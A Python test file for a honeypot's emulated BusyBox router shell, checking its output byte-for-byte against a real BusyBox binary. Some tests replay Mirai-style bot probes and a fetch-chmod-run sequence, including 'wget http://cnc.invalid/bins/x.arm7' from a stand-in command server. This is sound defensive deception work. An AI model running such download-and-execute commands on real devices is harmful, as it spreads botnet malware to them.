# SPDX-License-Identifier: MIT
"""The ``busybox`` persona's data: config defaults, and ``busybox`` output against the real binary.

The real one is Debian's static BusyBox 1.35 (``telnetprobe.busybox_binary``: unpacked, never
installed); its banner line and applet list differ from a router's, so the comparison feeds
them to the persona's formatter and expects the real bytes.
"""

from __future__ import annotations

import asyncio
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sensorutil import free_port, wait_port
from telnetprobe import busybox_binary
from test_shell import ROOT, FakeCtx

from honeyfarm.sensor.config import PersonaConfig
from honeyfarm.sensor.model import Account
from honeyfarm.sensor.shell import persona_busybox as pb
from honeyfarm.sensor.shell.commands.base import COMMANDS, IO
from honeyfarm.sensor.shell.fs import tree as vfs_tree
from honeyfarm.sensor.shell.fs.vfs import SessionFS
from honeyfarm.sensor.shell.persona import Persona
from honeyfarm.sensor.shell.shell import Shell


def _real_busybox() -> Path:
    if shutil.which("apt-get") is None or shutil.which("dpkg-deb") is None:
        pytest.skip("apt-get/dpkg-deb missing: cannot unpack busybox-static")
    try:
        return busybox_binary()
    except (subprocess.CalledProcessError, subprocess.TimeoutExpired, StopIteration) as e:
        pytest.skip(f"busybox-static could not be downloaded: {e}")


def test_busybox_usage_is_formatted_like_the_real_binary() -> None:
    bb = _real_busybox()
    real = subprocess.run([str(bb)], capture_output=True, text=True, check=True).stdout
    names = tuple(subprocess.run([str(bb), "--list"], capture_output=True, text=True, check=True).stdout.split())
    assert pb.usage(real.splitlines()[0], names) == real
    full = subprocess.run([str(bb), "--list-full"], capture_output=True, text=True, check=True).stdout
    assert "usr/bin/[\n" in full  # paths without the leading slash, as the persona lists them
    assert "usr/bin/[\n" in pb.busybox_list(full=True) and "bin/busybox\n" in pb.busybox_list(full=True)


def test_busybox_not_an_applet() -> None:
    bb = _real_busybox()
    res = subprocess.run([str(bb), "MIRAI"], capture_output=True, text=True)
    assert (res.returncode, res.stdout, res.stderr) == (127, "", pb.applet_not_found("MIRAI"))


def test_router_persona_defaults_and_overrides() -> None:
    cfg = PersonaConfig.model_validate({"flavor": "busybox"})
    assert (cfg.hostname, cfg.arch, cfg.kernel_release) == ("router", "armv7l", "4.4.60")
    assert PersonaConfig.model_validate({"flavor": "busybox", "hostname": "cam-3"}).hostname == "cam-3"
    assert PersonaConfig().hostname == "web-01" and PersonaConfig().flavor == "debian"


def test_router_persona_data_is_consistent() -> None:
    assert list(pb.APPLETS) == sorted(pb.APPLETS) and len(set(pb.APPLETS)) == len(pb.APPLETS)
    for name in pb.APPLETS:
        assert pb.busybox_path(name) is not None
    assert not set(pb.ABSENT) & set(pb.APPLETS)  # no bash, apt, dpkg on a router
    info = pb.cpuinfo(4)
    assert info.count("processor\t: ") == 4 and "model name\t: ARMv7 Processor rev 5 (v7l)" in info
    assert "GenuineIntel" not in info and "flags" not in info
    assert "/bin/bash" not in pb.PASSWD and pb.PASSWD.startswith("root:x:0:0:root:/root:/bin/ash\n")
    assert {ln.split(":")[0] for ln in pb.SHADOW.splitlines()} == {ln.split(":")[0] for ln in pb.PASSWD.splitlines()}
    assert pb.uname_a("router", "4.4.60", "#1 SMP", "armv7l") == "Linux router 4.4.60 #1 SMP armv7l GNU/Linux\n"


# --- a busybox-flavoured shell answering a Mirai-style bot, against the real binary ----------------------------

BANNER = f"BusyBox v{pb.VERSION} ({pb.BUILD}) multi-call binary."


def _router(account: Account = ROOT) -> Shell:
    persona = Persona.from_config(PersonaConfig(flavor="busybox"), time.time())
    return Shell(FakeCtx(account), persona, SessionFS(persona, account, max_bytes=1 << 22), max_line_bytes=16384)


def _line(sh: Shell, line: str) -> tuple[str, str, int]:
    res = asyncio.run(sh.run_line(line))
    return "".join(t for fd, t in res.chunks if fd == 1), "".join(t for fd, t in res.chunks if fd == 2), res.status


def _real(bb: Path, *args: str, cwd: Path | None = None) -> tuple[str, str, int]:
    env = {"PATH": str(cwd or "/nonexistent")}  # no host program can answer for a missing one
    res = subprocess.run([str(bb), *args], capture_output=True, text=True, cwd=cwd, env=env, timeout=30, check=False)
    return res.stdout, res.stderr, res.returncode


def _rebanner(text: str) -> str:
    """The real (Debian-built) binary's usage with the router's banner line."""
    first, sep, rest = text.partition("\n")
    return (BANNER + sep + rest) if first.startswith("BusyBox v1.35.0 (") else text


def test_router_busybox_checks_answer_like_the_real_binary() -> None:
    bb = _real_busybox()
    sh = _router()
    for probe in ("ECCHI", "MIRAI"):  # Mirai's "am I on a real BusyBox" check
        assert _line(sh, f"/bin/busybox {probe}") == _real(bb, probe)
    for applet in ("wget", "tftp"):  # without operands: the applet's usage on stderr, exit 1
        out, err, status = _real(bb, applet)
        assert status == 1 and err.startswith("BusyBox v1.35.0")
        assert _line(sh, f"/bin/busybox {applet}") == (out, _rebanner(err), status)
        assert _line(sh, applet) == (out, _rebanner(err), status)
    out, err, status = _real(bb, "ls", "--help")
    assert _line(sh, "ls --help") == (out, _rebanner(err), status) and "--color=auto" not in err
    out, err, status = _line(sh, "/bin/busybox")
    assert status == 0 and out.startswith(BANNER + "\n") and "\twhich, xargs, yes, zcat\n" in out


def test_router_shell_builtins_and_missing_programs_match_real_ash(tmp_path: Path) -> None:
    """``enable``/``system``/``shell`` (router CLIs' words) and Debian's tools are not found; ash's echo -e."""
    bb = _real_busybox()
    script = "enable; system; shell; apt-get update; bash; python3 -V; perl; echo -e '\\x41\\tB'"
    real = _real(bb, "sh", "-c", script, cwd=tmp_path)
    res = asyncio.run(_router().run_exec(script))
    got = ("".join(t for fd, t in res.chunks if fd == 1), "".join(t for fd, t in res.chunks if fd == 2), res.status)
    assert got == real and "sh: enable: not found\n" in real[1]
    sh = _router()
    for name in (*pb.ABSENT, "enable", "shopt"):
        assert _line(sh, name) == ("", f"-sh: {name}: not found\n", 127)


def test_router_wget_chmod_run_flow_prints_busybox_wget(tmp_path: Path) -> None:
    """``cd /tmp; wget URL; chmod 777 y; ./y`` as a bot types it; wget's lines as the real applet prints them
    fetching the same size from a real HTTP server on loopback."""
    bb = _real_busybox()
    (tmp_path / "srv").mkdir()
    (tmp_path / "srv" / "y").write_bytes(b"x" * 4321)  # the size the fake context reports
    (tmp_path / "dl").mkdir()
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"], cwd=tmp_path / "srv",
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        wait_port(port, proc=server)
        real = _real(bb, "wget", f"http://127.0.0.1:{port}/y", cwd=tmp_path / "dl")
        again = _real(bb, "wget", f"http://127.0.0.1:{port}/y", cwd=tmp_path / "dl")
    finally:
        server.terminate()
        server.wait(timeout=10)
    sh = _router()
    assert _line(sh, f"cd /tmp; wget http://127.0.0.1:{port}/y") == (real[0], real[1].replace("\r", ""), real[2])
    assert _line(sh, f"wget http://127.0.0.1:{port}/y") == again  # "can't open 'y': File exists"
    assert _line(sh, "chmod 777 y; ./y") == ("payload-ran\n", "", 0)
    out, err, status = _line(sh, "wget http://cnc.invalid/bins/x.arm7")
    assert (out, err, status) == ("", "wget: bad address 'cnc.invalid'\n", 1) or "Connecting to cnc.invalid" in err


def test_router_machine_is_coherent() -> None:
    sh = _router()
    assert _line(sh, "cat /proc/cpuinfo")[0] == pb.cpuinfo(4)
    assert _line(sh, "cat /proc/mounts")[0] == pb.proc_mounts() and "ext4" not in pb.proc_mounts()
    assert _line(sh, "mount")[0].startswith("rootfs on / type rootfs (rw)\n/dev/root on / type squashfs")
    assert "vmlinuz" not in _line(sh, "cat /proc/cmdline")[0]
    assert _line(sh, "cat /etc/passwd")[0] == pb.PASSWD
    assert _line(sh, "uname -a")[0] == pb.uname_a("router", "4.4.60", PersonaConfig(flavor="busybox").kernel_version,
                                                  "armv7l")  # fmt: skip
    assert _line(sh, "cat /proc/version")[0].startswith("Linux version 4.4.60 (builder@buildhost)")
    out = _line(sh, "ps")[0]
    assert out.startswith("  PID USER       VSZ STAT COMMAND\n    1 root      1552 S    init\n")
    assert "    2 root         0 SW   [kthreadd]\n" in out and "-sh\n" in out and "systemd" not in out
    free = _line(sh, "free")[0].splitlines()
    assert free[0] == " " * 14 + "total        used        free      shared  buff/cache   available"
    assert free[1].startswith("Mem:         238112 ") and free[2] == "Swap:             0           0           0"
    assert _line(sh, "ls -l /bin/echo")[0].endswith(" /bin/echo -> busybox\n")
    assert _line(sh, "ls -l /usr/bin/wget")[0].endswith(" /usr/bin/wget -> ../../bin/busybox\n")
    head = vfs_tree.full_content(sh.fs, "/bin/echo", "/")
    assert head[:7] == b"\x7fELF\x01\x01\x01" and head[18:20] == b"\x28\x00"  # 32-bit little-endian ARM
    assert len(head) == int(_line(sh, "cat /bin/busybox | wc -c")[0])
    assert _line(sh, "ls /etc")[2] == 0 and "apt" not in _line(sh, "ls /etc")[0]
    for missing in ("/usr/bin/apt", "/bin/bash", "/etc/debian_version", "/etc/apt", "/usr/bin/python3"):
        assert not sh.fs.exists(missing, "/"), missing
    for directory, names in pb.APPLET_DIRS.items():
        for name in names:
            assert sh.fs.resolve(f"{directory}/{name}") == "/bin/busybox", name


def test_free_output_layout_matches_real_busybox() -> None:
    bb = _real_busybox()
    real = _real(bb, "free")[0].splitlines()
    ours = pb.free_table([238112, 50000, 90000, 600, 97000, 183000]).splitlines()
    assert ours[0] == real[0] and len(ours) == len(real)
    assert [len(f) for f in ours[1].split()[1:]] and len(ours[1]) == len(real[1])  # 12-wide columns
    assert ours[2].split() == ["Swap:", "0", "0", "0"] and len(ours[2]) == len(real[2])


def test_debian_busybox_command_is_unchanged_in_kind() -> None:
    persona = Persona.from_config(PersonaConfig(), time.time())
    sh = Shell(FakeCtx(ROOT), persona, SessionFS(persona, ROOT, max_bytes=1 << 22), max_line_bytes=16384)
    io = IO("", sh.budget, tty=True)
    status = asyncio.run(COMMANDS["busybox"](sh, ["busybox"], io))  # Debian's image has no busybox on PATH
    out = "".join(t for fd, t in io.chunks if fd == 1)
    assert status == 0 and out.startswith("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3)") and "\tBusyBox is" in out
    io = IO("", sh.budget, tty=True)
    assert asyncio.run(COMMANDS["busybox"](sh, ["busybox", "MIRAI"], io)) == 127
    assert io.chunks == [(2, "MIRAI: applet not found\n")]
    assert _line(sh, "enable")[0].startswith("enable .\n")  # bash's builtin on Debian
    assert _line(sh, "ls --help")[0].startswith("Usage: ls [OPTION]... [FILE]...")
